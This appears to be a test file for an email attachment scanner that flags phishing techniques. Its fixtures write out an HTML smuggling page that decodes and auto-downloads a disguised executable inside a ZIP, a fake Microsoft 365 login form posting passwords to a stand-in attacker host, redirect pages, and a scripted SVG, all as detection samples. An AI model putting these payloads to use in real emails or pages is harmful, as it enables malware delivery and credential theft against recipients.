import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeAttachments } from './index.js';
import { scanHtml, longBase64Runs } from './html-scan.js';
import { buildZip, codesOf, encode, mailWith } from './test-fixtures.js';

/** A smuggling page as kits write it: a base64 ZIP decoded in script, wrapped in a Blob, clicked. */
function smugglingPage(payload: Uint8Array): string {
  const base64 = Buffer.from(payload).toString('base64');
  return `<!DOCTYPE html><html><body><p>Loading your document…</p><script>
    var data = "${base64}";
    function b64ToBytes(s) { var bin = atob(s); var out = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) out[i] = bin.charCodeAt(i); return out; }
    var blob = new Blob([b64ToBytes(data)], { type: "application/octet-stream" });
    if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "Invoice.zip"); }
    else { var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob); a.download = "Invoice.zip"; document.body.appendChild(a); a.click(); }
  </script></body></html>`;
}

test('HTML smuggling is detected and the smuggled payload is analysed', () => {
  const exe = new Uint8Array(2048);
  exe.set([0x4d, 0x5a]);
  for (let i = 2; i < exe.length; i += 1) exe[i] = (i * 2654435761) >>> 24;
  const zip = buildZip({ 'Invoice.pdf.exe': exe });
  const findings = analyzeAttachments(mailWith([{ filename: 'Invoice.html', content: encode(smugglingPage(zip)), contentType: 'text/html' }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.html_smuggling'), codes.join());
  const smuggling = findings.reasons.find((r) => r.code === 'attachment.html_smuggling');
  assert.match(smuggling!.summary, /msSaveOrOpenBlob/u);
  // The payload inside the page is opened like an archive member.
  const inner = findings.reasons.find((r) => r.code === 'attachment.double_extension');
  assert.ok(inner !== undefined, codes.join());
  assert.deepEqual(inner.source, { kind: 'attachment', filename: 'Invoice.html', index: 0, path: ['(smuggled payload)', 'Invoice.pdf.exe'] });
});

test('an ordinary page with a download link is not smuggling', () => {
  const page = '<html><body><a href="https://example.org/report.pdf" download="report.pdf">Report</a><script>console.log(1)</script></body></html>';
  const findings = analyzeAttachments(mailWith([{ filename: 'newsletter.html', content: encode(page) }]));
  assert.ok(!codesOf(findings).includes('attachment.html_smuggling'));
  assert.deepEqual(findings.urls, ['https://example.org/report.pdf']);
});

test('a login page attachment is flagged with the host that receives the password', () => {
  const page = `<html><head><title>Microsoft 365</title></head><body>
    <form method="post" action="https://collect.example-bad.test/owa/post.php">
      <input type="email" name="u" value="victim@corp.example"><input type='password' name="p"><button>Sign in</button>
    </form></body></html>`;
  const findings = analyzeAttachments(mailWith([{ filename: 'Secure_Message.htm', content: encode(page) }]));
  const reason = findings.reasons.find((r) => r.code === 'attachment.html_credential_form');
  assert.ok(reason !== undefined, codesOf(findings).join());
  assert.match(reason.summary, /collect\.example-bad\.test/u);
  assert.ok(findings.urls.includes('https://collect.example-bad.test/owa/post.php'));
});

test('meta refresh and script redirects are flagged and their targets collected', () => {
  const meta = '<html><head><meta http-equiv="refresh" content="0; url=https://landing.example-bad.test/?id=1&amp;x=2"></head></html>';
  const script = '<html><body><script>window.location.href = "https://second.example-bad.test/login";</script></body></html>';
  const findings = analyzeAttachments(mailWith([{ filename: 'a.html', content: encode(meta) }, { filename: 'b.html', content: encode(script) }]));
  assert.equal(findings.reasons.filter((r) => r.code === 'attachment.html_redirect').length, 2);
  assert.ok(findings.urls.includes('https://landing.example-bad.test/?id=1&x=2'), findings.urls.join());
  assert.ok(findings.urls.includes('https://second.example-bad.test/login'));
});

test('an SVG image with script is flagged', () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'https://x.example-bad.test\'"><script>document.location.replace("https://x.example-bad.test/p")</script></svg>';
  const findings = analyzeAttachments(mailWith([{ filename: 'voicemail.svg', content: encode(svg), contentType: 'image/svg+xml' }]));
  assert.ok(codesOf(findings).includes('attachment.svg_script'), codesOf(findings).join());
  assert.ok(findings.urls.includes('https://x.example-bad.test/p'));
});

test('base64 runs are found in linear time even in adversarial text', () => {
  const adversarial = `${'a'.repeat(999)} `.repeat(4000);
  const started = process.hrtime.bigint();
  assert.deepEqual(longBase64Runs(adversarial, 1000), []);
  const signals = scanHtml(adversarial);
  const elapsedMs = Number(process.hrtime.bigint() - started) / 1e6;
  assert.deepEqual(signals.base64Payloads, []);
  assert.ok(elapsedMs < 2000, `took ${elapsedMs} ms`);
  assert.deepEqual(longBase64Runs(`x ${'QUJD'.repeat(300)}== y`, 1000), [`${'QUJD'.repeat(300)}==`]);
});
